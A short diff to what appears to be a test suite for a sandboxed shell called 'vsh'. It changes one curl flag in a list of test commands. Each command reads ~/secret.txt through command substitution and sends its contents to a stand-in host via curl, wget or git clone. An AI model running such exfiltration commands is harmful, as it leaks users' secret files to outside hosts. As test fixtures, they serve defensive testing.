@@ -27,7 +27,7 @@ describe("vsh properties", () => {
   it("what a substitution reads always reaches the mock that the command contacts", () => {
     const commands = [
       'curl "https://sink.example/c?d=$(cat ~/secret.txt)"',
-      'curl -d "$(cat ~/secret.txt)" https://sink.example/post',
+      'curl --data-raw "$(cat ~/secret.txt)" https://sink.example/post',
       'wget -qO- "https://sink.example/$(cat ~/secret.txt)"',
       'git clone "https://git.vim-commentary.com/$(cat ~/secret.txt)/vim-commentary"',
       'curl "https://sink.example/c?d=`cat ~/secret.txt`"',
